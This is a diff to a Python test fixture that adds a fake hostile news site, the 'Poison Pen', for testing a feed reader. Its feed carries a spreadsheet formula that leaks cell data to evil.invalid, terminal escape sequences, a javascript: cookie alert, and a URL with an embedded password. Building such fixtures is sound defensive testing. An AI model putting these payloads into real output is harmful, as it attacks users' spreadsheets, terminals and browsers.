@@ -17,6 +17,10 @@ drip and compress on the fly). Three sites, so per-host rules (robots.txt, Retry
       /laughs.xml           a second feed: XML entity expansion ("billion laughs"); its item is /ok-2.html
     closed (the Shuttered Gazette)  robots.txt disallows everything; its feed must never be fetched
     busy (the Crowded Wire)         /feed.xml answers 429 with Retry-After: 3600
+    poison (the Poison Pen)         output that attacks its reader (issue 12, items 8-9): a JSON Feed whose
+      /feed.json            items carry a spreadsheet formula as headline, terminal escapes in the byline,
+      /formula.html         javascript: and data: images, and a link with a user name and password in it;
+      /private.html         the pages behind them. Not in `sources_toml()`: `poison_sources_toml()` adds it.
 
 Every outlet, headline and paragraph here is fictional.
 """
@@ -24,6 +28,7 @@ Every outlet, headline and paragraph here is fictional.
 from __future__ import annotations
 
 import html
+import json
 import random
 import threading
 import zlib
@@ -170,6 +175,51 @@ def binary_junk(size: int = 200_000, seed: int = 7) -> bytes:
     return random.Random(seed).randbytes(size)
 
 
+PASSWORD = "hunter2-Zx9"       # the credential in the Poison Pen's links: it must never be stored or shown
+FORMULA_TITLE = '=HYPERLINK("http://evil.invalid/?leak="&A1,"Casualty figures")'
+FORMULA_ARTICLE = (FORMULA_TITLE, [
+    "Figures released by the district administration on Monday put the number of damaged homes in the "
+    "eastern quarter at just over four hundred, most of them from shelling in the last fortnight.",
+    "Engineers said about a third could be repaired before winter if roofing sheets arrive in time, while "
+    "the rest would need to be rebuilt; families from those houses are staying with relatives.",
+    "The administration said it would publish an updated count every week and asked residents to report "
+    "damage at the town hall rather than by telephone, because the lines are overloaded.",
+])
+PRIVATE_ARTICLE = ("Members' briefing: convoy timetable for the week", [
+    "This briefing is for subscribers only and lists the expected arrival times of the relief convoys "
+    "crossing the Kesta checkpoint over the coming week, subject to the security situation.",
+    "Convoy timings may change at short notice; the relief office will confirm each crossing on the morning "
+    "it takes place, and drivers should not gather at the checkpoint before confirmation.",
+])
+ESCAPE_BYLINE = "\x1b]0;you have been pwned\x07Eve \x1b[2J\x1b[1;31mMallory"
+
+
+def poison_feed(base: str) -> bytes:
+    """A JSON Feed whose items attack the reader of crosswire's output: a formula headline, escape sequences
+    in the byline, javascript: and data: images, and a link carrying a user name and password."""
+    private = base.replace("http://", f"http://reader:{PASSWORD}@") + "/private.html"
+    items = [
+        {"id": "formula", "url": base + "/formula.html", "title": FORMULA_TITLE,
+         "content_text": " ".join(FORMULA_ARTICLE[1]), "date_published": "2026-03-02T09:00:00Z",
+         "authors": [{"name": ESCAPE_BYLINE}], "image": "javascript:alert(document.cookie)"},
+        {"id": "private", "url": private, "title": PRIVATE_ARTICLE[0], "content_text": " ".join(PRIVATE_ARTICLE[1]),
+         "date_published": "2026-03-02T10:00:00Z", "image": "data:image/svg+xml;base64,PHN2Zz48L3N2Zz4="},
+    ]
+    return json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": "Poison Pen",
+                       "home_page_url": base + "/", "items": items}).encode("utf-8")
+
+
+def poison_routes(base: str) -> dict[str, Handler]:
+    """The Poison Pen: a JSON Feed and the two pages it links (the private one is served to anyone)."""
+    page = "text/html; charset=utf-8"
+    return {
+        "/robots.txt": lambda path: Reply(200, {"Content-Type": "text/plain"}, b"User-agent: *\nDisallow:\n"),
+        "/feed.json": lambda path: Reply(200, {"Content-Type": "application/feed+json"}, poison_feed(base)),
+        "/formula.html": lambda path: Reply(200, {"Content-Type": page}, article_html(*FORMULA_ARTICLE).encode()),
+        "/private.html": lambda path: Reply(200, {"Content-Type": page}, article_html(*PRIVATE_ARTICLE).encode()),
+    }
+
+
 # --- the sites ------------------------------------------------------------------------------------------
 
 def main_routes(base: str) -> dict[str, Handler]:
@@ -282,7 +332,7 @@ class HostileWeb:
     """The three hostile sites on free loopback ports, with a log of the paths each was asked for."""
 
     __test__ = False
-    SITES = {"main": main_routes, "closed": closed_routes, "busy": busy_routes}
+    SITES = {"main": main_routes, "closed": closed_routes, "busy": busy_routes, "poison": poison_routes}
 
     def __init__(self, host: str = "127.0.0.1") -> None:
         self.host = host
@@ -350,6 +400,14 @@ class HostileWeb:
             f"feeds = [{', '.join(repr(self.url(site, p)).replace(chr(39), chr(34)) for p in paths)}]\n"
             for site, paths in feeds.items())
 
+    def poison_sources_toml(self, *, with_password: bool = False) -> str:
+        """The Poison Pen as a source; `with_password` puts the credentials into its feed URL itself."""
+        feed = self.url("poison", "/feed.json")
+        if with_password:
+            feed = feed.replace("http://", f"http://reader:{PASSWORD}@")
+        return f'[[source]]\nname = "poison-pen"\nhomepage = "{self.url("poison", "/")}"\nfeeds = ["{feed}"]\n'
+
 
 __all__ = ["HostileWeb", "Reply", "XSS_MARKERS", "RETRY_AFTER", "OK_ARTICLE", "OK2_ARTICLE", "CHARSET_ARTICLE",
-           "XSS_ARTICLE", "gzip_bomb", "huge_chunks", "laughs_feed"]
+           "XSS_ARTICLE", "gzip_bomb", "huge_chunks", "laughs_feed", "PASSWORD", "FORMULA_TITLE", "FORMULA_ARTICLE",
+           "PRIVATE_ARTICLE", "ESCAPE_BYLINE"]
